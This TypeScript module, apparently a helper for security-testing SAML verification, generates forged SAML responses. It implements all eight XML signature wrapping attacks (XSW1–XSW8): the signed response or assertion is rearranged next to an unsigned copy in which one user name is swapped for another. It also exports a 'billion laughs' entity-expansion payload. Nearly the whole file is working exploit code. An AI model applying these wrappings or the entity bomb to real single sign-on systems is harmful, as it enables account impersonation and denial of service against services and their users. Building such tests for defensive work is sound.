import { DOMParser, XMLSerializer } from '@xmldom/xmldom';

const saml = 'urn:oasis:names:tc:SAML:2.0:assertion';
const signature = 'http://www.w3.org/2000/09/xmldsig#';

interface Parts {
  readonly document: Document;
  readonly response: Element;
  readonly assertion: Element;
  /** Returns a copy of the response or assertion, without signature, for another user. */
  evil(element: Element): Element;
}

type Wrap = (parts: Parts) => void;

const signatureOf = (element: Element): Element => {
  const found = Array.from(element.getElementsByTagNameNS(signature, 'Signature')).find(
    (candidate) => candidate.parentNode === element,
  );
  if (!found) throw new Error('The element is not signed');
  return found;
};

const withoutSignature = (element: Element): Element => {
  const copy = element.cloneNode(true) as Element;
  copy.removeChild(signatureOf(copy));
  return copy;
};

const object = ({ document }: Parts, content: Element): Element => {
  const made = document.createElementNS(signature, 'ds:Object');
  made.appendChild(content);
  return made;
};

/**
 * The eight forms of signature wrapping of "On Breaking SAML: Be Whoever You Want to Be" (Somorovsky and others, USENIX
 * Security 2012), numbered as SAML Raider numbers them. 1 and 2 wrap a signed response, the others a signed assertion.
 */
export const wrappings: Readonly<Record<string, { readonly signed: 'response' | 'assertion'; readonly wrap: Wrap }>> = {
  XSW1: {
    signed: 'response',
    wrap: (parts) => {
      const { document, response } = parts;
      const evil = parts.evil(response);
      const kept = signatureOf(response).cloneNode(true) as Element;
      kept.appendChild(withoutSignature(response));
      evil.appendChild(kept);
      document.replaceChild(evil, response);
    },
  },
  XSW2: {
    signed: 'response',
    wrap: (parts) => {
      const { document, response } = parts;
      const evil = parts.evil(response);
      evil.appendChild(withoutSignature(response));
      evil.appendChild(signatureOf(response).cloneNode(true));
      document.replaceChild(evil, response);
    },
  },
  XSW3: {
    signed: 'assertion',
    wrap: (parts) => parts.response.insertBefore(parts.evil(parts.assertion), parts.assertion),
  },
  XSW4: {
    signed: 'assertion',
    wrap: (parts) => {
      const evil = parts.evil(parts.assertion);
      parts.response.replaceChild(evil, parts.assertion);
      evil.appendChild(parts.assertion);
    },
  },
  XSW5: {
    signed: 'assertion',
    wrap: (parts) => {
      const evil = parts.evil(parts.assertion);
      const original = withoutSignature(parts.assertion);
      evil.insertBefore(signatureOf(parts.assertion).cloneNode(true), evil.firstChild);
      parts.response.replaceChild(evil, parts.assertion);
      parts.response.appendChild(original);
    },
  },
  XSW6: {
    signed: 'assertion',
    wrap: (parts) => {
      const evil = parts.evil(parts.assertion);
      const kept = signatureOf(parts.assertion).cloneNode(true) as Element;
      kept.appendChild(withoutSignature(parts.assertion));
      evil.insertBefore(kept, evil.firstChild);
      parts.response.replaceChild(evil, parts.assertion);
    },
  },
  XSW7: {
    signed: 'assertion',
    wrap: (parts) => {
      const extensions = parts.document.createElementNS('urn:oasis:names:tc:SAML:2.0:protocol', 'samlp:Extensions');
      extensions.appendChild(parts.evil(parts.assertion));
      parts.response.insertBefore(extensions, parts.assertion);
    },
  },
  XSW8: {
    signed: 'assertion',
    wrap: (parts) => {
      const evil = parts.evil(parts.assertion);
      const kept = signatureOf(parts.assertion).cloneNode(true) as Element;
      kept.appendChild(object(parts, withoutSignature(parts.assertion)));
      evil.insertBefore(kept, evil.firstChild);
      parts.response.replaceChild(evil, parts.assertion);
    },
  },
};

/** Returns the response, wrapped so that a careless reader accepts it for `as` instead of `from`. */
export function wrapped(xml: string, wrap: Wrap, { from, as }: { readonly from: string; readonly as: string }): string {
  const document = new DOMParser().parseFromString(xml, 'text/xml');
  const response = document.documentElement;
  const assertion = Array.from(document.getElementsByTagNameNS(saml, 'Assertion'))[0];
  if (!assertion) throw new Error('There is no assertion');
  const evil = (element: Element): Element => {
    const copy = withoutSignature(element);
    const text = new XMLSerializer().serializeToString(copy).replaceAll(from, as);
    const made = new DOMParser().parseFromString(text, 'text/xml').documentElement;
    made.setAttribute('ID', '_evil');
    return document.importNode(made, true) as Element;
  };
  wrap({ document, response, assertion, evil });
  const result = new XMLSerializer().serializeToString(document);
  if (!result.includes(as) || !result.includes(from)) throw new Error('Nothing was wrapped');
  return result;
}

/** A document type whose entities expand to a billion characters. */
export const bomb = `<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa">${'bcdefghi'.replaceAll(
  /./g,
  (name, index: number) => `<!ENTITY ${name} "${`&${'abcdefgh'[index]};`.repeat(10)}">`,
)}]>`;
